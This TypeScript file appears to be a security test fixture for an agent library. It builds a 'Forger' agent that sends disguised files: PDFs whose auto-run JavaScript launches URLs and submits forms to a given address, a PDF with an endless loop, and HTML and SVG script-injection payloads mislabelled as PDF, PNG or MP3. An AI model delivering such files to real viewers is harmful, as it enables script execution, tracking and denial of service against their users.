import type { AgentOptions } from 'parley-a2a/node';

/** A PDF of one page, which is a link. `action`: what its viewer does when it opens the file. */
function pdf(action: string, link: string): string {
  const drawing = '1 0 0 rg 0 0 300 200 re f';
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[5 0 R]>>',
    `<</Length ${drawing.length}>>stream\n${drawing}\nendstream`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${link})>>>>`,
    '<</Title(Report)>>',
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  const size = objects.length + 1;
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}trailer<</Size ${size}/Root 1 0 R/Info 6 0 R>>
startxref\n${start}\n%%EOF`;
}

function script(text: string): string {
  return `<</S/JavaScript/JS(${text.replaceAll(/[()\\]/g, '\\$&')})>>`;
}

function file(content: string, mediaType: string, filename: string) {
  return { raw: Buffer.from(content).toString('base64'), mediaType, filename };
}

/** Sends files that try to reach the page, or the server at an address. */
export function forger(address: string): AgentOptions {
  const page = `<script>document.title='owned';fetch('${address}/page')</script><img src="${address}/image">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title='owned'"/>`;
  const calls = `app.alert('owned'); app.launchURL('${address}/launch', true); this.submitForm('${address}/form');`;
  return {
    name: 'Forger',
    description: 'Its files are not what they seem.',
    agent: () => [
      file(pdf('null', `${address}/link`), 'application/pdf', 'report.pdf'),
      file(pdf(script(calls), `${address}/link`), 'application/pdf', 'calls.pdf'),
      file(pdf(script('for (;;) {}'), `${address}/link`), 'application/pdf', 'endless.pdf'),
      file(page, 'application/pdf', 'page.pdf'),
      file(pdf('null', address), 'text/html', 'named.pdf'),
      file(page, 'image/png', 'page.png'),
      file(svg, 'image/png', 'drawing.png'),
      file(page, 'audio/mpeg', 'page.mp3'),
    ],
  };
}
